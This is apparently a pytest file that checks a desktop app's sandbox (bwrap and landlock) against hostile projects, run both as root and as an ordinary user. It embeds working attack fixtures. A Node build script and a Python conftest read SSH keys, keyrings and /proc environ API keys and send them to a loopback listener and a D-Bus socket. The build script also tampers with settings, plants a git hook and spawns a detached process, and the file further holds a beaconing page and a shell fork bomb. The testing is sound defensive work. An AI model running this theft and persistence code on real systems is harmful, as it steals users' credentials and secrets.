"""Real hostile projects through the real checks, confined, as root and as an ordinary user:
a build script, a pytest conftest and a page try to read the user's SSH key, the keyring, the
Devora data folder and Devora's own environment (through /proc), to reach a loopback listener
and the D-Bus socket, to outlive the run with setsid, to plant git hooks and to change
Devora's settings. None of it may work, and the secret must be in none of the four ways out
the attack used: a loopback listener, what the checks report (the fix-round request to the
model is built from it), the project's git objects and an exported zip. See
docs/ARCHITECTURE.md, Safety."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from pathlib import Path

import pytest

from devora_desktop.core import sandbox
from devora_desktop.core.export import plan_export
from devora_desktop.core.export.local import export_zip
from devora_desktop.core.workspace import Workspace
from tests.core.test_project_runner import host_pids

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"),
                                reason="Linux confinement")
CI = os.environ.get("CI") == "true"
REPO = Path(__file__).resolve().parents[2]
DRIVER = Path(__file__).with_name("hostile_driver.py")
USER = "devora-ci"

# What the build runs: every theft the attack report lists, then a failing build whose error
# carries whatever it got (the fix round sends errors to the model).
BUILD_JS = r"""
const fs = require("fs"), net = require("net"), cp = require("child_process");
const T = JSON.parse(fs.readFileSync(__dirname + "/targets.json", "utf8"));
const got = {};
for (const [name, p] of Object.entries(T.files)) {
  try { got[name] = fs.readFileSync(p, "utf8"); } catch (e) { got[name] = "no:" + e.code; }
}
let pid = process.pid;
for (let i = 0; i < 6 && pid > 1; i++) {  // up the parent chain: Devora's environ
  try { got["environ" + i] = fs.readFileSync(`/proc/${pid}/environ`, "utf8"); } catch (e) {}
  try { pid = Number(fs.readFileSync(`/proc/${pid}/stat`, "utf8").split(") ")[1].split(" ")[1]); }
  catch (e) { break; }
}
for (const p of fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n))) {
  try { const e = fs.readFileSync(`/proc/${p}/environ`, "utf8");
        if (e.includes("API_KEY=")) got["proc" + p] = e; } catch (e) {}
}
try { fs.writeFileSync(T.settings, JSON.stringify({run_checks: "always"})); got.settings = "w"; }
catch (e) { got.settings = "no:" + e.code; }
try {  // Devora's own CLI, found where it is installed, pointed at the real data folder
  cp.execFileSync(T.devora, ["settings", "set", "run_checks", '"always"'],
                  {env: {...process.env, DEVORA_HOME: T.data}, stdio: "ignore", timeout: 60000});
  got.cli = "ran";
} catch (e) { got.cli = "no:" + (e.code || e.status); }
try { fs.mkdirSync(".git/hooks", {recursive: true});
      fs.writeFileSync(".git/hooks/post-commit", `#!/bin/sh\necho hook >> ${T.proof}\n`,
                       {mode: 0o755}); } catch (e) { got.hook = "no:" + e.code; }
cp.spawn(process.execPath, ["-e", "setTimeout(() => {}, 300000)", T.token],
         {detached: true, stdio: "ignore"}).unref();  // detached: a new session (setsid)
const loot = JSON.stringify(got);
fs.writeFileSync("loot.txt", Buffer.from(loot).toString("base64"));
fs.writeFileSync("ran.txt", "the hostile build ran\n");
let pending = 2;
const done = () => { if (--pending === 0) {
  console.error("Error: " + loot); process.exit(1); } };
for (const target of [{port: T.port, host: "127.0.0.1"}, {path: T.bus}]) {
  const s = net.connect(target);
  s.on("connect", () => s.end(loot, done)); s.on("error", done);
  setTimeout(done, 3000);
}
"""

CONFTEST = r"""
import json, os, pathlib, socket
T = json.loads((pathlib.Path(__file__).parent / "targets.json").read_text())
GOT = {}
for name, p in T["files"].items():
    try:
        GOT[name] = open(p).read()
    except OSError as e:
        GOT[name] = f"no:{e.errno}"
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            env = open(f"/proc/{pid}/environ", "rb").read().decode("utf-8", "replace")
            if "API_KEY=" in env:
                GOT["proc" + pid] = env
        except OSError:
            pass
try:
    with socket.create_connection(("127.0.0.1", T["port"]), timeout=2) as s:
        s.sendall(json.dumps(GOT).encode())
except OSError:
    pass
"""
TEST_PY = "from conftest import GOT\n\ndef test_loot():\n    assert GOT == {}, GOT\n"

PAGE = """<!doctype html><title>x</title><script>
const loot = "page-" + location.href;
fetch("http://127.0.0.1:PORT/beacon?" + loot).catch(() => console.error("fetch blocked"));
new Image().src = "http://127.0.0.1:PORT/img?" + loot;
const ws = new WebSocket("ws://127.0.0.1:PORT/ws");
</script><p>hi</p>
"""


class Listener:
    """A TCP listener on loopback and a UNIX socket (the session bus's place) that keep
    whatever reaches them."""

    def __init__(self, bus_path: Path) -> None:
        self.received: list[bytes] = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.port = self.tcp.getsockname()[1]
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(str(bus_path))
        os.chmod(bus_path, 0o777)
        self.unix.listen(16)
        self.stop = threading.Event()
        self.threads = [threading.Thread(target=self._serve, args=(s,), daemon=True)
                        for s in (self.tcp, self.unix)]
        for t in self.threads:
            t.start()

    def _serve(self, sock: socket.socket) -> None:
        sock.settimeout(0.1)
        while not self.stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            conn.settimeout(1)
            data = b"connected:"
            try:
                while chunk := conn.recv(65536):
                    data += chunk
            except OSError:
                pass
            self.received.append(data)
            conn.close()

    def close(self) -> None:
        self.stop.set()
        for t in self.threads:
            t.join(1)
        self.tcp.close()
        self.unix.close()


def _has_user() -> bool:
    if subprocess.run(["id", USER], capture_output=True).returncode == 0:
        return True
    if os.geteuid() != 0 or not shutil.which("useradd"):
        return False
    return subprocess.run(["useradd", "-m", USER], capture_output=True).returncode == 0


def _ordinary_python() -> list[str] | None:
    """An interpreter an ordinary user can run, with this venv's packages on its path (ours
    may live under /root, which they cannot enter)."""
    site = next((p for p in sys.path if p.endswith("site-packages")), None)
    system = shutil.which("python3", path="/usr/bin:/bin")
    if not site or not system:
        return None
    ok = subprocess.run(["runuser", "-u", USER, "--", system, "-c",
                         f"import sys; sys.path[:0] = [{site!r}]; import pydantic"],
                        capture_output=True)
    return [system, site] if ok.returncode == 0 else None


def leaks(data: bytes, canary: str) -> bool:
    """The canary in ``data``, as is or inside any base64 run."""
    if canary.encode() in data:
        return True
    for run in re.findall(rb"[A-Za-z0-9+/=]{24,}", data):
        try:
            if canary.encode() in base64.b64decode(run + b"=" * (-len(run) % 4)):
                return True
        except ValueError:
            continue
    return False


def git_objects(root: Path) -> bytes:
    out = b""
    for obj in (root / ".git" / "objects").rglob("*"):
        if obj.is_file() and len(obj.parent.name) == 2:
            out += zlib.decompress(obj.read_bytes())
    return out


@pytest.fixture
def world():
    """Home, data folder, session-bus socket and project of a user, all world-reachable
    so the ordinary user can own them (pytest's tmp_path is private to root)."""
    base = Path(tempfile.mkdtemp(prefix="devora-hostile-", dir="/tmp"))
    base.chmod(0o755)
    canary = f"CANARY-{os.getpid()}-{time.time_ns()}"
    home, data, runtime = base / "home", base / "data", base / "runtime"
    for folder in (home / ".ssh", home / ".local/share/keyrings", data, runtime):
        folder.mkdir(parents=True)
    files = {"ssh": home / ".ssh/id_rsa", "keyring": home / ".local/share/keyrings/login.keyring",
             "license": data / "license.key", "settings": data / "settings.json"}
    for name, path in files.items():
        path.write_text(json.dumps({"secret": canary}) if name == "settings" else
                        f"-----BEGIN {name}-----\n{canary}\n")
    listener = Listener(runtime / "bus")
    yield {"base": base, "canary": canary, "home": home, "data": data, "runtime": runtime,
           "files": files, "listener": listener}
    listener.close()
    shutil.rmtree(base, ignore_errors=True)


def _project(world: dict, name: str, token: str, *, python: bool) -> Path:
    project = world["base"] / name
    project.mkdir()
    ws = Workspace(project)
    ws.write_file("package.json", json.dumps({"name": "p", "scripts": {"build":
                                                                        "node build.js"}}))
    ws.write_file("build.js", BUILD_JS)
    if python:
        ws.write_file("conftest.py", CONFTEST)
        ws.write_file("test_loot.py", TEST_PY)
    ws.write_file("targets.json", json.dumps({
        "files": {k: str(v) for k, v in world["files"].items()},
        "port": world["listener"].port, "bus": str(world["runtime"] / "bus"),
        "settings": str(world["files"]["settings"]), "token": token,
        "devora": str(Path(sys.executable).with_name("devora")), "data": str(world["data"]),
        "proof": str(world["base"] / "hook-ran")}))
    assert ws.commit("v1")
    return project


def _run(world: dict, project: Path, kind: str, user: str | None, **extra: object) -> dict:
    spec = {"project": str(project), "kind": kind, "cache": str(world["base"] / "cache"),
            "sys_path": [str(REPO)], **extra}
    env = {"PATH": os.environ["PATH"], "LANG": "C.UTF-8", "HOME": str(world["home"]),
           "DEVORA_HOME": str(world["data"]), "XDG_RUNTIME_DIR": str(world["runtime"]),
           "DEVORA_API_KEY": world["canary"], "OPENAI_API_KEY": world["canary"]}
    argv = [sys.executable, str(DRIVER)]
    if user:
        found = _ordinary_python()
        if found is None:
            pytest.skip("no interpreter an ordinary user can run with these packages")
        argv = ["runuser", "-u", user, "--", found[0], str(DRIVER)]
        spec["sys_path"].append(found[1])
        subprocess.run(["chown", "-R", f"{user}:{user}", str(world["base"])], check=True)
    else:
        spec["python"] = sys.executable
    spec_file = world["base"] / "spec.json"
    spec_file.write_text(json.dumps(spec))
    spec_file.chmod(0o644)
    proc = subprocess.run([*argv, str(spec_file)], env=env, capture_output=True, text=True,
                          timeout=240)
    assert proc.returncode == 0, proc.stderr[-2000:]
    return json.loads(proc.stdout.strip().splitlines()[-1])


def _as_user(user: str | None) -> None:
    if user and (os.geteuid() != 0 or not _has_user()):
        if CI:
            pytest.fail("CI runs as root and must be able to add an ordinary user")
        pytest.skip("needs root to act as an ordinary user")
    if not user and os.geteuid() != 0:
        pytest.skip("this half runs as root")


def _need(kind: str) -> None:
    if (kind == "bwrap" and sandbox._bwrap() is None) or \
            (kind == "landlock" and sandbox.landlock_abi() < 4):
        if CI:
            pytest.fail(f"{kind} is missing on CI")
        pytest.skip(f"{kind} is not available here")
    if not shutil.which("node"):
        pytest.skip("node is not installed")


@pytest.mark.parametrize("user", [None, USER], ids=["root", "ordinary-user"])
@pytest.mark.parametrize("kind", ["bwrap", "landlock"])
def test_a_hostile_build_and_test_suite_get_nothing_out(world: dict, kind: str,
                                                       user: str | None) -> None:
    _need(kind)
    _as_user(user)
    canary = world["canary"]
    token = f"devora-hostile-setsid-{kind}-{os.getpid()}"
    project = _project(world, f"project-{kind}", token, python=user is None)
    settings_before = world["files"]["settings"].read_bytes()
    from devora_desktop.core.context import AppContext

    with contextlib.closing(AppContext.open(world["data"])) as app:  # a real data folder
        assert app.settings.run_checks != "always"

    report = _run(world, project, kind, user)

    by_check = {r["check"]: r for r in report["results"]}
    assert (project / "ran.txt").is_file(), "the hostile build never ran"  # it did run
    assert by_check["npm-build"]["status"] == "failed"
    if user is None:
        assert by_check["pytest"]["status"] == "failed"  # the conftest ran too
    # 1. the checks' report (what the fix round sends to the model) carries no secret
    reported = json.dumps(report).encode()
    assert not leaks(reported, canary), "a secret reached the check report"
    assert "no:" in json.dumps(report)  # the build saw its reads refused
    # 2. nothing reached the loopback listener or the session-bus socket
    assert world["listener"].received == []
    # 3. the setsid child died with the run
    deadline = time.monotonic() + 3
    while host_pids(token) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert host_pids(token) == []
    # 4. Devora's settings are untouched (the file, and through Devora's own CLI)
    assert world["files"]["settings"].read_bytes() == settings_before
    with contextlib.closing(AppContext.open(world["data"])) as app:
        assert app.settings.run_checks != "always"
    # 5. Devora's next save runs no planted hook, and git objects and an export hold nothing
    ws = Workspace(project)
    assert ws.commit("after the checks")
    assert not (world["base"] / "hook-ran").exists()
    assert not leaks(git_objects(project), canary)
    zipped = export_zip(plan_export(ws), world["base"] / "export.zip")
    with zipfile.ZipFile(zipped) as zf:
        assert not leaks(b"".join(zf.read(n) for n in zf.namelist()), canary)


@pytest.mark.parametrize("kind", ["bwrap", "landlock"])
def test_a_hostile_page_reaches_no_other_loopback_port(world: dict, kind: str) -> None:
    _need(kind)
    try:
        import PySide6.QtWebEngineWidgets  # noqa: F401
    except ImportError:
        pytest.skip("QtWebEngine is not installed")
    project = world["base"] / f"page-{kind}"
    project.mkdir()
    Workspace(project).write_file("index.html",
                                  PAGE.replace("PORT", str(world["listener"].port)))
    spec_report = _run(world, project, kind, None)
    [result] = spec_report["results"]
    assert result["check"] == "web-load" and result["status"] in ("passed", "failed"), result
    time.sleep(0.5)
    assert world["listener"].received == []



@pytest.mark.parametrize("kind", ["bwrap", "landlock"])
def test_a_fork_bomb_as_an_ordinary_user_ends_with_one_finding(world: dict, kind: str) -> None:
    """The root half is in test_sandbox; here RLIMIT_NPROC and the count hold for a user."""
    _need(kind)
    _as_user(USER)
    project = world["base"] / f"bomb-{kind}"
    project.mkdir()
    Workspace(project).write_file("package.json", json.dumps(
        {"name": "p", "scripts": {"build": "sh -c 'f() { f | f & }; f; sleep 20'"}}))
    started = time.monotonic()
    report = _run(world, project, kind, USER, processes=40)
    build = next(r for r in report["results"] if r["check"] == "npm-build")
    assert build["status"] == "failed", build
    [finding] = build["findings"]
    assert "more than 40 processes" in finding["message"]
    assert time.monotonic() - started < 60


@pytest.mark.parametrize("kind", ["bwrap", "landlock"])
def test_a_busy_desktop_session_does_not_stop_an_ordinary_users_checks(world: dict,
                                                                      kind: str) -> None:
    """RLIMIT_NPROC counts all of a user's tasks: with more of them running than the run's
    cap (a browser, an editor...), a confined build must still start its processes."""
    _need(kind)
    _as_user(USER)
    sleepers = [subprocess.Popen(["runuser", "-u", USER, "--", "sleep", "60"])
                for _ in range(60)]
    try:
        time.sleep(0.5)
        project = world["base"] / f"busy-{kind}"
        project.mkdir()
        Workspace(project).write_file("package.json", json.dumps(
            {"name": "p", "scripts": {"build": "sh -c 'for i in 1 2 3 4 5; do true & done; "
                                                "wait; echo built'"}}))
        report = _run(world, project, kind, USER, processes=40)
    finally:
        for proc in sleepers:
            proc.kill()
            proc.wait()
    build = next(r for r in report["results"] if r["check"] == "npm-build")
    assert build["status"] == "passed", build
